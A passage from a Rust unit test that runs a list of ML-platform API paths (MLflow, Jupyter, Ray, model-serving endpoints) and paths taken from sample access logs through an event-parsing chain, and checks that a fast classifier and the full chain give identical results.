            "/api/2.0/mlflow-artifacts/artifacts/1/abc/model.pkl",
            "/get-artifact",
            "/model-versions/get-artifact",
            "/api/kernels",
            "/api/kernels/8c1e/channels",
            "/notebook/team/nb-1/api/kernels/8c1e",
            "/user/alice/api/terminals/1",
            "/user/alice/terminals/websocket/1",
            "/terminals/websocket/2",
            "/api/sessions/s1",
            "/api/contents/work/a.ipynb",
            "/api/jobs/",
            "/api/jobs/raysubmit_1/logs",
            "/api/job_agent/jobs/x/stop",
            "/predictions/fraud",
            "/explanations/fraud",
            "/v1/models/fraud:predict",
            "/v1/traces",
            "/v2/models/resnet/versions/2/infer",
            "/v2/repository/index",
            "/v2/health/ready",
            "/v2",
            "//v1/models/x:predict",
            "//api/2.0/mlflow/runs/get",
            "/models",
            "/models/fraud/1",
            "/files/a.txt",
            "/login",
            "/api",
            "/api/status",
            "/",
            "",
            "api/kernels",
            "/API/kernels",
            "/notebook",
            "/user/",
        ]
        .iter()
        .map(|p| p.to_string())
        .collect();
        // Every path of the samples' access logs too.
        let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../samples");
        let mut stack = vec![dir];
        while let Some(d) = stack.pop() {
            for e in std::fs::read_dir(&d).unwrap().flatten() {
                let p = e.path();
                if p.is_dir() {
                    stack.push(p);
                } else if let Ok(text) = std::fs::read_to_string(&p) {
                    for line in text.lines() {
                        for part in line.split('"').skip(1).step_by(2) {
                            let mut words = part.split(' ');
                            if let (Some(_), Some(target)) = (words.next(), words.next())
                                && target.starts_with('/')
                            {
                                paths.push(target.split('?').next().unwrap().to_string());
                            }
                        }
                    }
                }
            }
        }
        assert!(paths.len() > 500, "{} paths", paths.len());
        let mut claimed = 0;
        for path in &paths {
            for method in ["GET", "POST", "DELETE", "PUT"] {
                let make = || {
                    let mut e = Event::new();
                    e.set(f::HTTP_REQUEST_METHOD, method);
                    e.set(f::URL_PATH, Str::from(path.as_str()));
                    e.set(f::URL_QUERY, "name=m&version=2&run_id=r1&path=a/b");
                    e
                };
                let (mut full, mut fast) = (make(), make());
                chain(&mut full);
                let r = req(&fast).unwrap();
                if ml_api_req(&mut fast, &r) {
                    claimed += 1;
                }
                assert_eq!(
                    fast.to_json_string(),
                    full.to_json_string(),
                    "{method} {path}"
                );
            }
        }
        assert!(claimed > 100, "{claimed} requests claimed");
    }
}
